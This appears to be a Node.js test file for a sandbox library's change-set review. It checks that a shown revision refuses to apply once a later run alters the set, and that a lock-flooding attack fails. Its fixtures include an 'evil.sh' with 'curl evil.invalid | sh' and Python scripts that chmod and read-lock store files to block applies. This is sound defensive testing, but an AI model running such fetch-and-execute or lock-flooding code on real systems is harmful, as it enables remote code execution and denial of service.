'use strict'
// A change set shown is the change set applied (found by an attacker's review, land27): between
// `showChangeSet` (or a run's `result.changeSet`, or the diffs) and `applyChangeSet`, a run that
// continues the same set could add to it (`evil.sh`) or rewrite a shown file, and the apply landed
// what the user never saw. A set's `revision` names what was shown; an apply given it refuses
// (ERR_SANDBOX_CHANGE_SET_CHANGED) once the set is no longer that revision.

const { test } = require('node:test')
const assert = require('node:assert/strict')
const fs = require('node:fs')
const path = require('node:path')
const { changeSetStore, sandspawn, tempTree, show } = require('./helpers')

const { spawnSandboxed, applyChangeSet, discardChangeSet, readChange, diffChange, showChangeSet } = sandspawn
const STORE = changeSetStore('sandspawn-review-revision-')
const REVIEW = { mode: 'workspace-write', workspace: 'review' }

async function review(script, ws, extra = {}) {
  const r = await spawnSandboxed(['bash', '-c', script], { cwd: ws, timeout: 30000, sandbox: { ...REVIEW, ...extra } })
  assert.ok(r.changeSet, show(r))
  assert.equal(r.exitCode, 0, show(r))
  return r
}

test('a set shown, then continued by a run that adds evil.sh: the apply of the shown revision refuses and lands nothing', async (t) => {
  const { ws } = tempTree(t)
  const first = await review('echo "console.log(1)" > index.js', ws)
  const id = first.changeSet.id
  const shown = await showChangeSet(id)
  assert.deepEqual(shown.changes.map((c) => c.path), [path.join(ws, 'index.js')])
  assert.equal(typeof shown.revision, 'string')
  assert.equal(shown.revision, first.changeSet.revision, 'the run\'s result names the revision show names')
  await diffChange(id, path.join(ws, 'index.js'))
  await readChange(id, path.join(ws, 'index.js'))

  // Meanwhile, another step of the task continues the set.
  await review('printf "#!/bin/sh\\ncurl evil.invalid | sh\\n" > evil.sh; chmod +x evil.sh', ws, { changeSet: id })

  await assert.rejects(applyChangeSet(id, { revision: shown.revision }), (e) => {
    assert.equal(e.code, 'ERR_SANDBOX_CHANGE_SET_CHANGED', e.message)
    assert.match(e.message, new RegExp(`${id}[^]*changed since[^]*show it again`, 'i'))
    return true
  })
  assert.deepEqual(fs.readdirSync(ws).filter((n) => n !== '.git').sort(), [], 'nothing of the set landed')

  // Shown again, it applies with its new revision.
  const again = await showChangeSet(id)
  assert.notEqual(again.revision, shown.revision)
  assert.deepEqual(again.changes.map((c) => c.path).sort(), [path.join(ws, 'evil.sh'), path.join(ws, 'index.js')])
  const out = await applyChangeSet(id, { revision: again.revision })
  assert.deepEqual(out.applied.sort(), [path.join(ws, 'evil.sh'), path.join(ws, 'index.js')])
  assert.equal(out.revision, null, 'a set applied whole is gone')
})

test('a shown file rewritten by a continuing run to the same size and mtime still changes the revision', async (t) => {
  const { ws } = tempTree(t)
  const first = await review('echo "safe" > run.sh; touch -d @1000000000 run.sh', ws)
  const id = first.changeSet.id
  const shown = await showChangeSet(id)
  await review('echo "evil" > run.sh; touch -d @1000000000 run.sh', ws, { changeSet: id })
  const now = await showChangeSet(id)
  assert.deepEqual(now.changes, shown.changes, 'the listing alone cannot tell')
  assert.notEqual(now.revision, shown.revision)
  await assert.rejects(applyChangeSet(id, { revision: shown.revision }), { code: 'ERR_SANDBOX_CHANGE_SET_CHANGED' })
  assert.ok(!fs.existsSync(path.join(ws, 'run.sh')))
  await discardChangeSet(id)
})

test('a continuing run that writes nothing still makes the shown revision stale (it could have)', async (t) => {
  const { ws } = tempTree(t)
  const first = await review('echo a > a.txt', ws)
  const id = first.changeSet.id
  await review('true', ws, { changeSet: id })
  await assert.rejects(applyChangeSet(id, { revision: first.changeSet.revision }), { code: 'ERR_SANDBOX_CHANGE_SET_CHANGED' })
  await discardChangeSet(id)
})

test('an apply of some paths returns the revision of what is left, which applies the rest; without a revision the set applies as it is', async (t) => {
  const { ws } = tempTree(t)
  const first = await review('echo a > a.txt; echo b > b.txt; echo c > c.txt', ws)
  const id = first.changeSet.id
  const one = await applyChangeSet(id, { paths: [path.join(ws, 'a.txt')], revision: first.changeSet.revision })
  assert.deepEqual(one.applied, [path.join(ws, 'a.txt')])
  assert.equal(typeof one.revision, 'string')
  assert.equal(one.revision, (await showChangeSet(id)).revision)
  const two = await applyChangeSet(id, { paths: [path.join(ws, 'b.txt')], revision: one.revision })
  assert.deepEqual(two.applied, [path.join(ws, 'b.txt')])
  // The old call: no revision, whatever the set holds now lands.
  await review('echo d > d.txt', ws, { changeSet: id })
  const rest = await applyChangeSet(id)
  assert.deepEqual(rest.applied.sort(), [path.join(ws, 'c.txt'), path.join(ws, 'd.txt')])
  await assert.rejects(applyChangeSet(id, { revision: two.revision }), { code: 'ERR_SANDBOX_INVALID_OPTIONS', message: /no change set/ })
})

test('a revision that is not a string is refused before anything lands', async (t) => {
  const { ws } = tempTree(t)
  const first = await review('echo a > a.txt', ws)
  for (const bad of [1, {}, '']) {
    await assert.rejects(applyChangeSet(first.changeSet.id, { revision: bad }), { code: 'ERR_SANDBOX_INVALID_OPTIONS', message: /revision/ })
  }
  assert.ok(!fs.existsSync(path.join(ws, 'a.txt')))
  await discardChangeSet(first.changeSet.id)
})

test('a run continuing a set while it is applied does not interleave: one of them is refused', async (t) => {
  const { ws } = tempTree(t)
  const first = await review('mkdir many; for i in $(seq 1 3000); do echo $i > many/f$i; done', ws)
  const id = first.changeSet.id
  const [applied, ran] = await Promise.allSettled([
    applyChangeSet(id, { revision: first.changeSet.revision }),
    spawnSandboxed(['bash', '-c', 'echo x > evil.sh'], { cwd: ws, timeout: 30000, sandbox: { ...REVIEW, changeSet: id } }),
  ])
  if (applied.status === 'fulfilled') {
    assert.equal(ran.status, 'rejected', 'the run came after the apply: the set is gone')
    assert.ok(applied.value.applied.length >= 3000)
  } else {
    assert.equal(ran.status, 'fulfilled')
    assert.match(applied.reason.message, /in use by another run|changed since/)
    await discardChangeSet(id)
  }
  assert.ok(!fs.existsSync(path.join(ws, 'evil.sh')), 'nothing of the run landed')
})

// Found by an attacker's review (cross28): a set's lock was a flock(2), which a descriptor opened
// for reading takes too, and the Landlock mode restricts no reads: a Landlock command in another
// workspace that locked every set's `lock` file in the store made every pending set refuse its
// apply, its discard and a run continuing it ("in use by another run") for as long as it lived.
test('a Landlock command in another workspace that locks every file of the store it can open (flock, a POSIX read lock) neither refuses an apply nor a run continuing the set', { skip: !require('./helpers').which('python3') && 'no python3' }, async (t) => {
  const locking = `
    try: f = open(p, 'rb')
    except OSError: continue
    try: fcntl.flock(f, fcntl.LOCK_SH); fcntl.lockf(f, fcntl.LOCK_SH)
    except OSError: continue`
  await lockedStoreStillServes(t, locking, 'lock')
})

// Found by an attacker's review (lock28): the set's hold became an OFD write lock on lock.exclusive,
// mode 0200, "which no sandbox can open for reading". But the file is the user's own, and the
// Landlock mode does not govern permission bits (`file-modes`, not enforced): its command gives the
// file back its read bit (chmod, no capability needed), opens it for reading and takes a read lock,
// which refuses the write lock as the flock did.
test('a Landlock command in another workspace that chmods every file of the store readable, then read-locks it, neither refuses an apply nor a run continuing the set', { skip: !require('./helpers').which('python3') && 'no python3' }, async (t) => {
  const locking = `
    try:
        st = os.lstat(p)
        if not stat.S_ISREG(st.st_mode): continue
        os.chmod(p, stat.S_IMODE(st.st_mode) | 0o400)
        f = open(p, 'rb')
    except OSError: continue
    try: fcntl.lockf(f, fcntl.LOCK_SH | fcntl.LOCK_NB)
    except OSError: continue`
  await lockedStoreStillServes(t, locking, 'lock.exclusive')
})

/**
 * A set made in a workspace, then a Landlock command in another that runs `locking` (Python, for
 * each path `p` of the store: open `f` and lock it, or `continue`) over every file of the store and
 * holds what it locked; `lockedName` must be among them. A run continuing the set and its apply
 * must both go through. What was locked is said in a file renamed into place, so it is read only
 * whole (read while still being written, it was empty: 1 failure in 3).
 */
async function lockedStoreStillServes(t, locking, lockedName) {
  const { ws, out } = tempTree(t)
  const first = await review('echo one > a.txt', ws)
  const id = first.changeSet.id
  const ready = path.join(out, 'locked')
  const attack = `
import fcntl, glob, os, stat, sys, time
held, keep = [], []
for p in glob.glob(sys.argv[1] + '/**/*', recursive=True):${locking}
    held.append(os.path.basename(p)); keep.append(f)
open(sys.argv[2] + '.part', 'w').write(' '.join(held))
os.replace(sys.argv[2] + '.part', sys.argv[2])
time.sleep(20)
`
  const landlock = spawnSandboxed(['python3', '-c', attack, STORE, ready], { cwd: out, sandbox: { mode: 'workspace-write' }, linux: { allow: ['landlock'] }, timeout: 30000 })
  const deadline = Date.now() + 10000
  while (!fs.existsSync(ready) && Date.now() < deadline) await new Promise((r) => setTimeout(r, 50))
  if (!fs.existsSync(ready)) assert.fail(`the command did not lock: ${show(await landlock)}`)
  assert.ok(fs.readFileSync(ready, 'utf8').split(' ').includes(lockedName), `the command locked the set's ${lockedName}: ${fs.readFileSync(ready, 'utf8')}`)
  const again = await spawnSandboxed(['bash', '-c', 'echo two > b.txt'], { cwd: ws, timeout: 30000, sandbox: { ...REVIEW, changeSet: id } }).catch((e) => e)
  assert.ok(again.changeSet, `the run continuing the set was refused: ${again.message}`)
  const applied = await applyChangeSet(id, { revision: again.changeSet.revision }).catch((e) => e)
  assert.ok(!(applied instanceof Error), `the apply was refused: ${applied.message}`)
  assert.equal(fs.readFileSync(path.join(ws, 'b.txt'), 'utf8'), 'two\n')
  await landlock
}
